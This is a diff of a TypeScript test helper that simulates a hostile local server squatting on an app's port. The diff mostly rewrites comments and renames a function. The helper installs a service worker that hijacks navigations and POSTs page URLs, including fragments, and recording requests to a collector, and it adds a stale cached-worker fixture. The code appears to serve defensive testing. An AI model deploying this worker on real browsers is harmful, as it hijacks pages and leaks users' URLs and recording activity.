@@ -2,24 +2,25 @@ import { once } from 'node:events';
 import { createServer, type IncomingMessage } from 'node:http';
 import type { AddressInfo, Socket } from 'node:net';
 
-// Another local server that has the page's port while Earshot does not run, and what it leaves in the browser.
+// Another local server on the page's port while Earshot is not running. It leaves a service worker and cached pages in
+// the browser.
 
 /**
- * A service worker that answers every navigation in the place of whoever serves, and tells all that it sees: the addresses of
- * pages with their fragments, and the bytes of recordings.
+ * A service worker that answers every navigation with the hostile page and reports what it sees to the collector: page
+ * addresses with their fragments, and requests for recordings.
  */
 const hostileWorker = (collectorUrl: string) => `
-const tell = (text) => fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: text });
+const report = (text) => fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: text });
 self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
 self.addEventListener('fetch', (event) => {
   const { request } = event;
-  event.waitUntil(tell('worker saw ' + request.mode + ' ' + request.url));
+  event.waitUntil(report('worker saw ' + request.mode + ' ' + request.url));
   if (request.mode === 'navigate') event.respondWith(new Response(${JSON.stringify(hostilePage(collectorUrl))}, { headers: { 'Content-Type': 'text/html' } }));
-  else if (request.url.includes('/recordings/')) event.respondWith(fetch(request).then((response) => (event.waitUntil(tell('worker has a recording')), response)));
+  else if (request.url.includes('/recordings/')) event.respondWith(fetch(request).then((response) => (event.waitUntil(report('worker has a recording')), response)));
 });`;
 
-/** One of somebody's development server that was forgotten: it serves the page that it has kept, and everything else passes. */
+/** The service worker of an abandoned development server: it serves its cached page and passes on other requests. */
 const STALE_WORKER = `
 self.addEventListener('install', (event) => { self.skipWaiting(); event.waitUntil(caches.open('app').then((cache) => cache.add('/'))); });
 self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
@@ -30,10 +31,10 @@ function hostilePage(collectorUrl: string): string {
 <script>fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: 'page at ' + location.href });</script>`;
 }
 
-/** Something that hears what the worker and the page tell, for as long as the test runs. */
+/** Collects what the hostile worker and page report during a test. */
 export interface Collector {
   url: string;
-  /** Each message. */
+  /** The body of each report, oldest first. */
   readonly messages: string[];
   close(): Promise<void>;
 }
@@ -54,15 +55,15 @@ export async function startCollector(): Promise<Collector> {
 
 export interface ServiceWorkerServer {
   port: number;
-  /** Frees the port. @param keepConnections those that stand go on being answered: a browser may use them again */
+  /** Frees the port. @param keepConnections goes on answering open connections, which a browser may reuse */
   stop(keepConnections?: boolean): Promise<void>;
-  /** Requests that were answered. */
+  /** The number of requests answered so far. */
   readonly answered: number;
 }
 
 /**
- * Starts it on a port of 127.0.0.1; every page and file may be cached for a year.
- * @param port 0: any that is free
+ * Starts the server on 127.0.0.1. Browsers may cache every response for a year.
+ * @param port 0: any free port
  */
 export async function startServiceWorkerServer(
   port: number,
@@ -75,7 +76,7 @@ export async function startServiceWorkerServer(
   const server = createServer((request, response) => {
     answered += 1;
     const isWorker = request.url === '/worker.js';
-    // Whoever asks may read it, so that no browser stops what is said here.
+    // Every origin may read the response, so that the browser does not block it.
     response.setHeader('Access-Control-Allow-Origin', request.headers.origin ?? '*');
     response.setHeader('Access-Control-Allow-Credentials', 'true');
     response.setHeader('Cache-Control', 'public, max-age=31536000, immutable');
@@ -98,7 +99,7 @@ export async function startServiceWorkerServer(
     },
     async stop(keepConnections = false) {
       const freed = new Promise<void>((resolve) => {
-        // The port is free as soon as the listener is closed; connections that stand are another matter.
+        // The port is free as soon as the listener is closed, even while connections are open.
         server.close(() => resolve());
         if (keepConnections) resolve();
       });
@@ -108,7 +109,7 @@ export async function startServiceWorkerServer(
   };
 }
 
-/** Ends with the browser's connections. */
+/** Closes a server and its open connections. */
 function closed(server: ReturnType<typeof createServer>): Promise<void> {
   return new Promise((resolve) => {
     server.close(() => resolve());
